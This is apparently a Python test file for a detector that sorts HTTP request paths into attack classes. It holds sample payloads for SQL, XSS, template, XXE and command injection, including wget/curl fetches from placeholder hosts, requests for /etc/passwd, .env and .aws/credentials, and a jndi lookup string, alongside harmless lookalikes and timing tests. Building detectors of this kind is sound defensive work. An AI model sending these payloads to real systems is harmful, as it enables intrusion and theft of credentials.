"""Attacks on web applications: what is one, what is none, and how long that takes to find out."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from d4sensor.judges import http_attacks
from d4sensor.judges.http_attacks import is_code_execution, of, suspected

ATTACKS = {
    "potential sql injection": [
        "/a?id=1 union all select 1",
        "/a?id=1+union+select+null,null--",
        "/a?id=1/**/union/**/distinct/**/select/**/1",
        "/a?id=1%20UNION%20SELECT%20user",
        "/a?id=1%2520union%2520select%25201",
        "/a?id=1 and 1=1",
        "/a?id=1) or (1=1",
        "/a?id=1' or '1'='1",
        "/a?id=1' or 'a' like 'a",
        '/a?id=1" or ""="',
        "/a?id=(select * from users)",
        "/a?id=1 and (select name from users)",
        "/a?id=1;drop table users",
        "/a?id=1; waitfor delay '0:0:5'",
        "/a?id=1 and sleep(5)",
        "/a?id=benchmark(1000000,md5(1))",
        "/a?id=1 order by 10",
        "/a?id=x from information_schema.tables",
        "/a?id=1 into outfile '/var/www/x.php'",
        "/a?id=convert(int,db_name())",
        "/a?id=case when 1 then 2 end",
        "/a?id=extractvalue(1,2)",
        "/a?id=chr(65)||chr(66)",
    ],
    "potential xml injection": ["/a?u=x' or /a/b/text()='x", "/a?u=x or name()='y'"],
    "potential php injection": [
        "/a?x=<?php echo 1 ?>",
        "/a?x=<?=1?>",
        "/a?page=php://input",
        "/a?page=php://filter/convert.base64-encode/resource=x",
        "/a?page=expect://ls",
        "/a?page=data://text/plain;base64,x",
    ],
    "potential ldap injection": [
        "/a?u=*)(uid=*))(|(uid=*",
        "/a?u=x)(&(objectclass=*)",
        "/a?u=(|(cn=a)",
    ],
    "potential xss injection": [
        "/a?q=<script>x</script>",
        "/a?q=%3Cscript%20src=x%3E",
        "/a?q=<img src=x onerror=y>",
        "/a?q=<svg/onload=y>",
        '/a?q="onmouseover=f(1)',
        "/a?q=alert(1)",
        "/a?q=prompt('xss')",
        "/a?q=confirm`1`",
        "/a?q=javascript:void(0)",
        "/a?q=(document.cookie)",
    ],
    "potential xxe injection": [
        "/a?x=<!doctype r [<!entity e system 'file:///x'>]>",
        "/a?x=<!doctype r system 'http://x'>",
        "/a?x=[<!entity",
    ],
    "potential ssti injection": [
        "/a?n=${7*7}",
        "/a?n=#{7*7}",
        "/a?n={{7*7}}",
        "/a?n={{config.items()}}",
        "/a?n={{''.__class__}}",
        "/a?n=<%= 7*7 %>",
        "/a?x=${jndi:ldap://x.tld/a}",
        "/a?x=${${lower:j}ndi:rmi}",
    ],
    "potential data leakage": [
        "/a?imei=490154203237518",
        "/a?imsi=310150123456789&x=y",
        "/a?mac=00:11:22:aa:bb:cc",
        "/a?mac=00-11-22-aa-bb-cc",
        "/a?iccid=8991101200003204510",
        "/a?m=a@b.tld,c@d.tld,e@f.tld,g@h.tld",
    ],
    "config file access": [
        "/.htaccess",
        "/x/.htpasswd",
        "/wp-config.php",
        "/wp-config.php.bak",
        "/.env",
        "/app/.env.local",
        "/a?f=.htaccess",
        "/.git/config",
        "/.aws/credentials",
    ],
    "potential remote code execution": [
        "/a?x=$_get[0]",
        "/a?x=;id",
        "/a?x=|whoami",
        "/a?x=`cat ./x`",
        "/a?x=$(id)",
        "/a?x=/bin/sh",
        "/a?x=cmd.exe",
        "/a?x=cmd /c dir",
        "/a?x=wget http://x.tld/y",
        "/a?x=wget+192.0.2.1/y",
        "/a?x=curl -o /tmp/y",
        "/a?x=cd /tmp; chmod 777 y",
        "/a?x=chmod+%2bx+y",
        "/a?x=y >/dev/null",
        "/a?x=y 2>&1",
        "/a?x=ping -c 1 192.0.2.1",
        "/a?x=cat /x/y",
        "/a?x=${ifs}",
        "/a?-d+allow_url_include=on",
        "/index.php?s=/index/think/invokefunction&x=y",
        "/a?x=system('ls')",
        "/a?x=() { :; }; x",
        "/a?x=%{#context}",
    ],
    "potential directory traversal": [
        "/a?f=../../../x",
        "/a/..%2f..%2f..%2fx",
        "/a/%252e%252e%252f%252e%252e%252f%252e%252e%252fx",
        "/a?f=....//....//....//x",
        "/a?f=..\\..\\..\\x",
        "/a?f=/etc/passwd",
        "/a?f=/proc/self/environ",
        "/a?f=c:\\windows\\win.ini",
        "/a?f=c:/windows/system32/x",
        "/a/..;/manager",
    ],
    "potential web scan": [
        "/w00tw00t.at.isc.sans.dfind:)",
        "/a?x=acunetix_wvs_security_test",
        "/a?x=http://testasp.vulnweb.com/t/fit.txt",
        "/a?x=hit.bxss.me",
        "/a?x=thishouldnotexistandhopefullyitwillnot",
        "/a?x=y.oast.fun",
    ],
    "potential dns changer": [
        "/a.cgi?dnsprimary=192.0.2.1&x=y",
        "/a?x=y&wan_dns1=192.0.2.1",
        "/a?pppoePriDns=192.0.2.1",
        "/a?dns[server1]=192.0.2.1",
    ],
}

HARMLESS = [
    "/",
    "/index.html",
    "/a/b/c.php?id=7&s=word",
    "/search?q=union+square+selection",
    "/search?q=select+a+car",
    "/search?q=rock+and+roll",
    "/search?q=black+or+white",
    "/search?q=it's",
    "/search?q=curl+hair+at+home",
    "/search?q=what+is+a+cat",
    "/search?q=c%2B%2B",
    "/search?q=a+%26+b",
    "/search?q=(a+b)*c",
    "/search?q=alert+me",
    "/search?q=order+by+phone",
    "/search?q=on+focus+mode=x",
    "/a?next=https://a.tld/b?c=d",
    "/a?url=http%3A%2F%2Fa.tld%2Fb%3Fc%3Dd",
    "/a?redirect=../b",
    "/a/../b/../c.css",
    "/../../../images/x.png",
    "/a?price=${price}",
    "/a?name={{name}}",
    "/a?mail=a@b.tld",
    "/a?mail=a@b.tld,c@d.tld,e@f.tld",
    "/a?id=490154203237518",
    "/a?imei=4901542032375181",
    "/a?t=12:30:45",
    "/a?dns=name.tld",
    "/a?version=192.0.2.1",
    '/a?json={"a":[1,2,{"b":null}]}',
    "/.well-known/acme-challenge/x",
    "/a.environment",
    "/docs/wp-configuration",
    "/etc/passwords.html?x=y",
    "/a;id=5?x=y",
    "/a?x=1;id=5",
    "/a?q=%E2%82%AC+100%25",
    "/a?x=%",
    "/a?x=%zz",
]


PIECES = [
    *("a", "1", " ", "(", "'", '"', ";", "/", ".", "..", "../", "....//", "%", "%25", "+", "=", "&", "@"),
    *("${", "{{", "#{", "<", "<?", "<!", "<!--", "/*", "/**", "|", "`", "\\", "-", "[", "]", "\n", "\u00e4"),
    *(
        "union ",
        "union all ",
        "select ",
        "select a",
        "select a ",
        "select a from ",
        "and 1",
        "or ' ",
        "' or ",
    ),
    *("case ", "waitfor ", "order by ", "; insert ", "into ", "sleep ", "on", "onerror=", "onload", "<img "),
    *(
        "<img on",
        "<img a=",
        "<script",
        "alert(",
        "javascript:",
        "<!doctype ",
        "a@b.c",
        "@b.",
        "@b.c d",
        "mac=",
    ),
    *(
        "wget ",
        "wget -",
        "curl a",
        "chmod ",
        "ping -",
        "cat -a ",
        "nc -a",
        "$(",
        "() {",
        "dns",
        "&dns",
        "?dns1",
    ),
    *(
        "&dns=1.1.1",
        "(|(",
        "*)(",
        "(|(a",
        "php:",
        "' ) ' or",
        "'''",
        "or name",
        "%system",
        "/proc/",
        "owasp!",
    ),
]


@pytest.mark.parametrize(
    ("info", "target"), [(info, target) for info, targets in ATTACKS.items() for target in targets]
)
def test_attack(info: str, target: str) -> None:
    assert of(target) == info
    path, _, query = target.partition("?")
    assert of(f"{path}?{quote(query, safe='+&=%')}" if query else path) == info


def test_every_attack_is_suspected_among_many_targets() -> None:
    attacks = [target.lower() for targets in ATTACKS.values() for target in targets]
    assert suspected(["/", *attacks, "/a?b=c"]) == set(range(1, len(attacks) + 1))
    assert suspected(["/", "/a/b.php?x=1&y=~z", "/dns"]) == suspected([]) == set()


@given(st.lists(st.lists(st.sampled_from([*PIECES, "/a", "?"]), max_size=9).map("".join), max_size=4))
def test_none_that_is_not_suspected_shows_an_attack(texts: list[str]) -> None:
    targets = [quote(text, safe="/?&=+*'();:<>|.$%@,!").lower() for text in texts]
    assert {n for n, target in enumerate(targets) if of(target)} <= suspected(targets)


@pytest.mark.parametrize("target", HARMLESS)
def test_harmless(target: str) -> None:
    assert of(target) == ""
    assert of(target.upper()) == ""


@pytest.mark.parametrize(
    "body",
    [
        '{"id":5,"name":"or","list":[1,2],"note":"it is"}',
        "note=rock+and+roll,+or+1+of+2+ways",
        "Some text; id est, cat or dog.\nPing me, or sleep well\nid: 5",
        "in case when you are late, order by phone",
        'He said "yes" and <b>left</b>, "no" or like that',
        "head / tail, cat / dog; bash it",
        "select a colour from the list",
        "a=b&mail=a@b.tld&text=100%+of+it",
        '--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n5\r\n--x--',
        '<p class="a">Text (more) text</p>',
    ],
)
def test_harmless_body(body: str) -> None:
    assert of(body, query=True) == ""


def test_first_class_in_the_order_is_told() -> None:
    assert of("/a?x=../../../etc/passwd&y=1 union select 1") == "potential sql injection"
    assert list(ATTACKS) == [attack.info for attack in http_attacks._ATTACKS]


def test_plus_is_a_space_in_a_query_alone() -> None:
    assert of("/a+union+select+1?x=y") == ""
    assert of("/a?x=1+union+select+1") == "potential sql injection"
    assert of("x=1+union+select+1", query=True) == "potential sql injection"


def test_dns_changer_in_a_body() -> None:
    assert of("x=y&dns1=192.0.2.1", query=True) == "potential dns changer"
    assert of("dns1=192.0.2.1", query=True) == "potential dns changer"


def test_code_execution_whatever_comes_before_it_in_the_order() -> None:
    assert is_code_execution("http://a.tld/?x=wget+http://b.tld/y")
    assert is_code_execution("http://a.tld/?x=1 union select 1;wget http://b.tld/y")
    assert not is_code_execution("http://a.tld/?x=http://b.tld/y")


# What makes expressions slow: beginnings without an end, over and over, each in several forms.


@pytest.mark.parametrize("piece", PIECES)
def test_long_text_takes_little_time(piece: str) -> None:
    for text in (piece * 20_000, f"/a?x={piece * 20_000}", f"/a?{quote(piece) * 20_000}"):
        start = time.process_time()
        of(text, query=True)
        assert time.process_time() - start < 0.25


@pytest.mark.parametrize("size", [2000, 8000])
@pytest.mark.parametrize("attack", http_attacks._ATTACKS, ids=lambda attack: attack.info)
def test_time_grows_no_faster_than_the_text(attack: http_attacks._Attack, size: int) -> None:
    for piece in PIECES:
        text = (piece * size)[:size]
        start = time.process_time()
        attack.expression.search(text)
        assert time.process_time() - start < size * 5e-6, f"{piece!r} over and over"


@given(st.text(max_size=300), st.booleans())
def test_any_text(text: str, query: bool) -> None:
    assert of(text, query) in ("", *ATTACKS)


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_any_pieces(text: str) -> None:
    assert of(text, query=True) in ("", *ATTACKS)
